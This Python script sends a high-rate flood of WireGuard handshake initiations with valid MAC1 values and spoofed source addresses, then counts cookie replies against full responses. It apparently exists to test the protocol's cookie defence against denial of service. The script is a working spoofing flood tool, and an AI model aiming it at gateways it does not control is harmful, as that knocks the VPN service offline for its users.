#!/usr/bin/env python3
"""A handshake flood: initiations with a right MAC1, from many source addresses.

usage: flood.py INTERFACE OUR-IPV4 ENTRY PORT GATEWAY-PUBLIC-KEY SECONDS

Each message costs the gateway an X25519 before it can know that nothing is behind it, which is
what cookies are for (WireGuard paper, 5.4.7). Sources are 10.64.0.0/10: off the link, so that
answers come back to this host as the gateway's next hop. Prints "sent N cookies N responses N".
"""
import base64
import hashlib
import os
import random
import struct
import sys
import threading
import time

from packet import UDP, View, Wire, udp

INITIATION_BYTES, COOKIE_BYTES, RESPONSE_BYTES = 148, 64, 92
RATE_PPS = 40000
SLICE = 200


def initiation(mac1_key):
    head = struct.pack("<II", 1, random.getrandbits(32)) + os.urandom(32 + 48 + 28)
    mac1 = hashlib.blake2s(head, key=mac1_key, digest_size=16).digest()
    return head + mac1 + bytes(16)


def source():
    return f"10.{64 + random.getrandbits(6)}.{random.getrandbits(8)}.{1 + random.getrandbits(7)}"


def count_answers(wire, seconds, counts):
    for ethertype, frame in wire.frames(seconds):
        view = View(ethertype, frame)
        if view.proto == UDP and view.dst.startswith("10."):
            if len(view.payload) == COOKIE_BYTES and view.payload[0] == 3:
                counts["cookies"] += 1
            elif len(view.payload) == RESPONSE_BYTES and view.payload[0] == 2:
                counts["responses"] += 1


def main(args):
    interface, ours, entry, port, key, seconds = args
    mac1_key = hashlib.blake2s(b"mac1----" + base64.b64decode(key)).digest()
    wire, ear = Wire(interface), Wire(interface)
    mac = wire.neighbour(ours, entry)
    # Made beforehand: the gateway must be the bottleneck, not this.
    packets = [udp(source(), 1024 + random.getrandbits(15), entry, int(port),
                   initiation(mac1_key)) for _ in range(20000)]
    counts = {"cookies": 0, "responses": 0}
    listener = threading.Thread(target=count_answers, args=[ear, float(seconds) + 1, counts])
    listener.start()
    begin, sent = time.monotonic(), 0
    print("ready", flush=True)
    while (now := time.monotonic()) < begin + float(seconds):
        if sent > (now - begin) * RATE_PPS:
            time.sleep(0.001)
            continue
        for _ in range(SLICE):
            wire.send(mac, packets[sent % len(packets)])
            sent += 1
    listener.join()
    print(f"sent {sent} cookies {counts['cookies']} responses {counts['responses']}")


if __name__ == "__main__":
    main(sys.argv[1:])
